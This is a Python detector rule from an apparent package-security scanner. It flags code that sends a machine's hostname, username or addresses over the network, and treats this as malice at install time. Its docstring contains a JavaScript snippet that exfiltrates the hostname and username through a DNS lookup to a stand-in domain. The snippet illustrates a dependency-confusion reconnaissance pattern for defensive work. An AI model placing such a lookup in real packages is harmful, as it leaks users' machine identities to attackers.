"""Facts about the machine are collected and sent out.

*What it does*

Follows values backwards from every call that sends something over a network or looks up a name, and speaks where the
machine's name, its user or its network addresses may end up there.

On installation this is told as malice; in code that runs later it is told as a risk that telemetry shares. A command
that the user calls, which names the machine when it logs in, counts little.

*Why it matters*

It is how attackers learn whose machine they are on: packages that squat on names of a company's private ones do little
else at first. What follows is chosen by the answer.

*Example*

    const os = require("os");
    const dns = require("dns");
    const who = os.hostname() + "." + os.userInfo().username;
    dns.lookup(who + ".collect.acme.invalid", () => {});
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import Weight
from assay.detectors.source._flows import confidence, sinks, softened, when
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="host-facts-exfiltration",
    title="Sends facts about the machine over the network",
    severity=Severity.MEDIUM,
    concern=Concern.MALICE,
    advice="Find out who receives these facts and what for before you install it.",
    techniques=("T1082", "T1033", "T1016", "T1041"),
)
_SOURCES = frozenset({BehaviourKind.HOST_FACTS})
_WEIGHT = Weight(on_install=Severity.HIGH, when_used=RULE.severity)
_TARGETS = frozenset({BehaviourKind.NETWORK})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each call that sends such facts."""
    for sink in sinks(subject, _SOURCES, _TARGETS):
        severity = _WEIGHT.of(sink.file)[0]
        facts = sorted({source.detail for source in sink.sources})
        yield finding(
            RULE,
            f"{subject.ref} sends {', '.join(facts)} over the network {when(sink.file)}",
            *sink.evidence(f"{sink.behaviour.detail} sends facts about the machine"),
            severity=softened(sink.file, severity),
            confidence=confidence(sink.file, Confidence.HIGH if len(facts) > 1 else Confidence.MEDIUM),
        )
